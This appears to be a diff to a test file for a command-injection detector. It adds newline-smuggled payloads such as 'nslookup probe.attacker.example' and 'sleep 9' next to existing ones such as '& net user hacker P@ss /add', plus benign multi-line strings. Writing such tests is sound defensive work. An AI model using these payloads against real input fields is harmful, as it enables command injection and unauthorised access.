@@ -43,6 +43,11 @@ RULE_CASES: dict[str, list[str]] = {
         "| dir C:\\",
         "& net user hacker P@ss /add",
         "\r\nwhoami",
+        # a one-token value, then a line of its own (%0a gets past filters of ; | &)
+        "10.0.0.7\nid",
+        "report\nuname",
+        "17\r\nsleep 9\r\n",
+        "8.8.4.4\nnslookup probe.attacker.example",
         "127.0.0.1\nwhoami",
         # a command after the word that opens a shell compound command's part
         "while true; do id; done",
@@ -120,6 +125,14 @@ STRICT_ONLY = ["whoami", "ifconfig", "uname"]
 
 BENIGN = [
     "a & b",
+    # two lines: package lists, a note, mirrors, a path
+    "gzip\nhostname",
+    "base-passwd\nbash",
+    "42\nsleep well",
+    "2024-01-01\nsleep 8 hours",
+    "1\nid\nfoo",
+    "Source:\nftp.gnu.org:/pub/gnu/bash",
+    "ftp://ftp.example.org/pub/unix/tools/lsof\nftp://mirror.example.net/pub/lsof",
     "x^2 + y^2 = r^2 & done",
     "^ls|^cat",  # a regular expression in a search field
     "Tom & Jerry",
